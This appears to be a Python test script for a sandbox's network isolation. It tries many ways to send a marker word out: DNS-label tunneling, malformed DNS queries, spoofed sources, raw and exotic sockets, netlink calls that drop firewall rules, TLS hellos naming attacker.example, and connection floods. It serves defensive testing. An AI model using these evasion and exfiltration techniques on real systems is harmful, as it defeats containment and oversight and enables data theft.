# SPDX-License-Identifier: Apache-2.0
"""What a program inside tries, to get a word out: python3 -c "$(cat inside.py)" ATTEMPT WORD [ARGUMENT…]. It never fails: whether the word arrived is judged outside.
The last line says that the attempt was made."""

import ctypes
import os
import socket
import struct
import sys
import threading


def family_of(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def tcp(word, *places):
    """Connect and say it."""
    for host, port in (p.rsplit("/", 1) for p in places):
        try:
            with socket.socket(family_of(host)) as s:
                s.settimeout(3)
                s.connect((host, int(port)))
                s.sendall(word.encode())
                s.recv(100)
        except OSError as error:
            print(host, port, error)


def by_name(word, *places):
    """Let the system resolve, then connect: names, and the many ways to write an address."""
    for host, port in (p.rsplit("/", 1) for p in places):
        try:
            with socket.create_connection((host, int(port)), 3) as s:
                s.sendall(word.encode())
                s.recv(100)
        except OSError as error:
            print(host, port, error)


def udp(word, *places):
    for host, port in (p.rsplit("/", 1) for p in places):
        for connected in (True, False):
            try:
                with socket.socket(family_of(host), socket.SOCK_DGRAM) as s:
                    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                    if connected:
                        s.connect((host, int(port)))
                        s.send(word.encode())
                    else:
                        s.sendto(word.encode(), (host, int(port)))
            except OSError as error:
                print(host, port, error)


def icmp(word, *hosts):
    """Echo requests, by the sockets that ordinary users may have and by raw ones."""
    for host in hosts:
        v6 = ":" in host
        packet = struct.pack(">BBHHH", 128 if v6 else 8, 0, 0, 7, 1) + word.encode()
        for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
            try:
                with socket.socket(family_of(host), kind, 58 if v6 else 1) as s:
                    total = sum(struct.unpack(f">{(len(packet) + 1) // 2}H", packet + b"\0" * (len(packet) % 2)))
                    total = (total & 0xffff) + (total >> 16)
                    s.sendto(packet[:2] + (packet[2:4] if v6 else struct.pack(">H", 0xffff & ~(total + (total >> 16)))) + packet[4:], (host, 0))
            except OSError as error:
                print(host, kind, error)


def protocols(word, host):
    """Everything else that carries bytes over IP."""
    for family, kind, protocol in ((2, 1, 132), (2, 5, 132), (2, 6, 33), (2, 2, 136), (2, 1, 262), (2, 3, 255), (17, 3, 768), (10, 3, 255), (40, 1, 0), (16, 3, 0)):
        try:
            with socket.socket(family, kind, protocol) as s:
                s.settimeout(1)
                if family == 40:
                    s.connect((2, 1234))
                elif family == 17:
                    s.bind(("lo", 768))
                    s.send(b"\0" * 14 + word.encode())
                elif family == 16:
                    s.send(struct.pack("=IHHII", 16 + len(word), 0x14, 5, 1, 0) + word.encode())  # a route, or an address, that is the word
                elif protocol == 255:
                    body = word.encode()
                    s.sendto(struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0, socket.inet_aton("10.0.0.2"), socket.inet_aton(host)) + body, (host, 0))
                else:
                    s.connect((host, 1234))
                    s.sendall(word.encode())
        except OSError as error:
            print(family, kind, protocol, error)


def question(name, kind):
    labels = b"".join(bytes([len(p)]) + p.encode("latin-1") for p in name.split(".") if p) + b"\0"
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)


def resolver(word, suffix):
    """Labels as payload, through the system's resolver."""
    for name in (f"{word}.{suffix}", f"a.b.c.{word}.{suffix}", f"{word.upper()}.{suffix}."):
        try:
            socket.getaddrinfo(name, 80)
        except OSError as error:
            print(name, error)


def dns(word, suffix, *servers):
    """Labels as payload, to any server, of any type, over both transports, and in malformed questions."""
    for server in servers:
        for kind in (1, 5, 10, 15, 16, 28, 33, 35, 64, 65, 99, 252, 255):
            messages = [question(f"{word}.{suffix}", kind)]
            if kind == 1:
                messages += [question("x", 1) + word.encode(), question(f"{word}.{suffix}", 1).replace(b"\1\0", b"\x29\0", 1), word.encode() * 20]
            for message in messages:
                try:
                    with socket.socket(family_of(server), socket.SOCK_DGRAM) as s:
                        s.settimeout(0.2 if len(messages) > 1 else 3)
                        s.connect((server, 53))
                        s.send(message)
                        s.recv(4096)
                except OSError as error:
                    print(server, kind, error)
        try:
            with socket.create_connection((server, 53), 3) as s:
                message = question(f"{word}.{suffix}", 16)
                s.sendall(struct.pack(">H", len(message)) + message + struct.pack(">H", 60000) + word.encode())
                s.shutdown(socket.SHUT_WR)
                s.recv(4096)
        except OSError as error:
            print(server, error)


def spoofed(word, source, host, port):
    """From an address of somebody else: on a loopback where every address is local, binding to it works."""
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(family_of(host), kind) as s:
                s.settimeout(3)
                s.bind((source, 0))
                s.connect((host, int(port)))
                s.send(word.encode())
        except OSError as error:
            print(kind, error)


def fast_open(word, host, port):
    """Data in the very first packet."""
    try:
        with socket.socket(family_of(host)) as s:
            s.settimeout(3)
            s.sendto(word.encode(), 0x20000000, (host, int(port)))
    except OSError as error:
        print(error)


def abstract(word, name):
    """A socket of the host without a file."""
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(3)
            s.connect("\0" + name)
            s.sendall(word.encode())
    except OSError as error:
        print(error)


FAMILIES = {"netrom": 6, "x25": 9, "key": 15, "packet": 17, "rds": 21, "pppox": 24, "llc": 26, "can": 29, "tipc": 30, "bluetooth": 31, "rxrpc": 33, "phonet": 35, "alg": 38, "nfc": 39,
            "kcm": 41, "qipcrtr": 42, "smc": 43, "xdp": 44, "mctp": 45}


def families(word, host, port):
    """Families of sockets that nobody thinks of, and tunnels: SMC falls back to TCP, L2TP and PPPoE carry packets."""
    for name, family in FAMILIES.items():
        for kind in (1, 2, 3, 5):
            try:
                with socket.socket(family, kind, 0) as s:
                    s.settimeout(1)
                    address = struct.pack("!HH4s8x", 2, int(port), socket.inet_aton(host))
                    address = struct.pack("=H", 2) + address[2:]
                    libc = ctypes.CDLL(None, use_errno=True)
                    print(name, kind, libc.connect(s.fileno(), address, len(address)), ctypes.get_errno(), libc.send(s.fileno(), word.encode(), len(word), 0))
            except OSError as error:
                print(name, kind, error)
    for kind, protocol in ((2, 115), (3, 4), (3, 41), (3, 47), (3, 50), (3, 2), (3, 89), (3, 103), (3, 112)):
        try:
            with socket.socket(2, kind, protocol) as s:
                s.sendto(word.encode(), (host, 0))
        except OSError as error:
            print(protocol, error)


def options(word, host, port):
    """Options of sockets that could make a packet look like one that was let through."""
    ways = {"our mark": [(1, 36, struct.pack("i", 1))], "another device": [(1, 25, b"eth0\0")], "another address": [(0, 19, struct.pack("i", 1)), (0, 15, struct.pack("i", 1))],
            "a connection that was open": [(6, 19, struct.pack("i", 1))], "data at once": [(6, 30, struct.pack("i", 1))], "a route in the packet": [(0, 4, bytes([131, 7, 4]) + socket.inet_aton(host) + b"\0")],
            "without routes": [(1, 5, struct.pack("i", 1))], "in UDP": [(17, 100, struct.pack("i", 2))], "another control group": [(1, 12, struct.pack("i", 7))]}
    for name, options_ in ways.items():
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with socket.socket(socket.AF_INET, kind) as s:
                s.settimeout(2)
                try:
                    for level, option, value in options_:
                        s.setsockopt(level, option, value)
                except OSError as error:
                    print(name, kind, "option", error)
                try:
                    s.connect((host, int(port)))
                    s.send(word.encode())
                except OSError as error:
                    print(name, kind, error)


def dns_forms(word, suffix, server):
    """Payload in what else a question may hold: options, other sections, kinds of message, pointers that go round."""
    label = bytes([len(word)]) + word.encode()
    tail = b"".join(bytes([len(p)]) + p.encode() for p in suffix.split(".")) + b"\0"
    head = lambda flags, *counts: struct.pack(">HHHHHH", 7, flags, *counts)  # noqa: E731
    ask = label + tail + struct.pack(">HH", 16, 1)
    plain = b"\1a" + tail + struct.pack(">HH", 1, 1)
    option = struct.pack(">HH", 65001, len(word)) + word.encode()
    messages = [head(0x0100, 1, 0, 0, 1) + plain + b"\0" + struct.pack(">HHIH", 41, 4096, 0, len(option)) + option,
                head(0x0100, 1, 0, 0, 1) + plain + label + tail + struct.pack(">HHIH", 16, 1, 0, len(word) + 1) + label,
                head(0x0100, 1, 1, 0, 0) + plain + label + tail + struct.pack(">HHIH", 1, 1, 0, 4) + bytes(4),
                head(0x0100, 2, 0, 0, 0) + plain + ask,
                head(0x2000, 1, 0, 0, 0) + ask, head(0x2800, 1, 0, 1, 0) + ask + ask[:-4] + struct.pack(">HHIH", 16, 1, 0, len(label)) + label,
                head(0x8180, 1, 0, 0, 0) + ask, head(0x0100, 1, 0, 0, 0) + label + b"\xc0\x0c" + struct.pack(">HH", 1, 1),
                head(0x0100, 1, 0, 0, 0) + b"\xc0\x0e\xc0\x0c" + struct.pack(">HH", 1, 1) + word.encode(),
                head(0x0100, 1, 0, 0, 0) + b"".join(bytes([1]) + c.encode() for c in word) + tail + struct.pack(">HH", 1, 1),
                head(0x0100, 1, 0, 0, 0) + label + b"\x40" + tail + struct.pack(">HH", 1, 1),
                head(0x0100, 1, 0, 0, 0) + label + tail + struct.pack(">HH", 1, 3)]
    for number, message in enumerate(messages):
        try:
            with socket.socket(family_of(server), socket.SOCK_DGRAM) as s:
                s.settimeout(1)
                s.connect((server, 53))
                s.send(message)
                print(number, s.recv(4096)[2:4].hex())
        except OSError as error:
            print(number, error)


def own_rules(word, host, port):
    """Take the filter or the routes away first: netlink, as root of the sandbox."""
    for protocol, message in ((12, b"\x14\0\0\0\x02\x0a\x05\x03" + bytes(12)), (0, b"\x20\0\0\0\x10\0\x05\0" + bytes(8) + bytes(4) + struct.pack("i", 1) + bytes(8))):
        try:
            with socket.socket(16, socket.SOCK_RAW, protocol) as s:
                s.settimeout(1)
                s.send(message)
                print(s.recv(4096))
        except OSError as error:
            print(protocol, error)
    libc = ctypes.CDLL(None, use_errno=True)
    for flags in (0x40000000, 0x10000000 | 0x40000000):
        print("unshare", libc.unshare(flags), ctypes.get_errno())
    tcp(word, f"{host}/{port}")


def hello(name, extra=b"", pad=0, record=16384):
    """A ClientHello."""
    def vector(size, data):
        return len(data).to_bytes(size, "big") + data

    def extension(kind, data):
        return struct.pack(">H", kind) + vector(2, data)
    extensions = extension(0, vector(2, b"\0" + vector(2, name))) if name is not None else b""
    extensions += extension(43, b"\2\3\4") + extra + (extension(21, bytes(pad)) if pad else b"")
    body = b"\3\3" + os.urandom(32) + vector(1, b"") + vector(2, b"\x13\1") + vector(1, b"\0") + vector(2, extensions)
    message = b"\1" + vector(3, body)
    return b"".join(b"\x16\3\1" + vector(2, message[i:i + record]) for i in range(0, len(message), record))


def tls(word, how, host, port):
    """A ClientHello that says something else than what was dialled; what follows it is the word."""
    first = {
        "other": lambda: hello(b"attacker.example"),
        "none": lambda: hello(None),
        "nul": lambda: hello(host.encode() + b"\0.attacker.example"),
        "encrypted": lambda: hello(host.encode(), struct.pack(">HH", 0xfe0d, 64) + bytes(64)),
        "fragments": lambda: hello(b"attacker.example", record=1),
        "quantum": lambda: hello(b"attacker.example", pad=1900, record=700),
        "twice": lambda: hello(host.encode(), b"\0\0" + struct.pack(">H", 9) + b"\0\7\0\0\4evil"),
        "huge": lambda: hello(b"attacker.example", pad=60000) * 2,
    }[how]()
    try:
        with socket.create_connection((host, int(port)), 5) as s:
            for piece in ([first[i:i + 1000] for i in range(0, len(first), 1000)] if len(first) > 2000 else [first]):
                s.sendall(piece)
            s.sendall(b"\x17\3\3" + struct.pack(">H", len(word)) + word.encode())
            s.settimeout(3)
            s.recv(100)
    except OSError as error:
        print(error)


def web(_word, *urls):
    """What HTTP servers say."""
    import urllib.request
    for url in urls:
        with urllib.request.urlopen(url, timeout=20) as answer:
            print(answer.status)


def answers(_word, *names):
    """What DNS says of each name: the whole answer but for its number and the name itself."""
    for name in names:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(20)
            s.connect(("9.9.9.9", 53))
            asked = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
            s.send(struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + asked + struct.pack(">HH", 1, 1))
            print(s.recv(1000)[2:].replace(asked, b"").hex())


def flood(_word, kind, count):
    """As many as fit, all at once, then let go."""
    kept, threads = [], []

    def some(n):
        for i in range(n):
            try:
                if kind == "names":
                    socket.getaddrinfo(f"{'x' * 50}{i}-{threading.get_ident()}.{'y' * 60}.{'z' * 60}.raw.example", 80)
                elif kind == "denied":
                    tcp("x", f"9.9.{i % 250}.{n % 250}/{1000 + i}")
                else:
                    s = socket.socket()
                    s.settimeout(0.5)
                    s.connect(("198.18.0.1", 1234))
                    if kind == "half":
                        s.sendall(b"\x16\3\1\x40\0" + b"\1\0\xff\0" + bytes(16000))
                    kept.append(s)
            except OSError:
                pass
    socket.getaddrinfo("a.raw.example", 80)
    for _ in range(8):
        threads.append(threading.Thread(target=some, args=(int(count) // 8,)))
        threads[-1].start()
    for thread in threads:
        thread.join()
    print(len(kept))


globals()[sys.argv[1]](*sys.argv[2:])
print("the attempt was made")
